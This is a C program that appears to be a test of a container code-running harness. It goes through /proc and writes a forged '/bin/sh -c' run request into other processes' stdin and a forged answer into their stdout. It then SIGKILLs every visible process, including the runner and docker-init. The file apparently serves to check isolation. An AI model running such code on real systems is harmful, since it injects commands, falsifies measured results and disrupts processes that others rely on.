/* Goes after every other process it can see (under Docker: docker-init, the keepalive, the runner that forks every
 * run of the container, and its own launcher): writes a forged run request into their stdin, a forged answer into
 * their stdout, and sends SIGKILL. A later run in the same container must still be served and measured. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(void) {
    static const char forged_req[] = "GB1 2\n/bin/sh\0-c\0";
    static const char forged_ans[] = "GB1 0 2 0\n{}";
    int seen = 0, opened = 0, killed = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        seen++;
        char p[64];
        for (int fd = 0; fd <= 2; fd++) {
            snprintf(p, sizeof p, "/proc/%d/fd/%d", pid, fd);
            int f = open(p, O_WRONLY | O_NONBLOCK);
            if (f >= 0) {
                opened++;
                printf("%s: OPENED\n", p);
                if (write(f, fd == 0 ? forged_req : forged_ans, fd == 0 ? sizeof forged_req : sizeof forged_ans - 1) < 0) {
                    printf("%s: write %s\n", p, strerror(errno));
                }
                close(f);
            }
        }
        if (kill(pid, SIGKILL) == 0) {
            killed++;
            printf("pid %d: KILLED\n", pid);
        }
    }
    printf("seen=%d opened=%d killed=%d\n", seen, opened, killed);
    return 0;
}
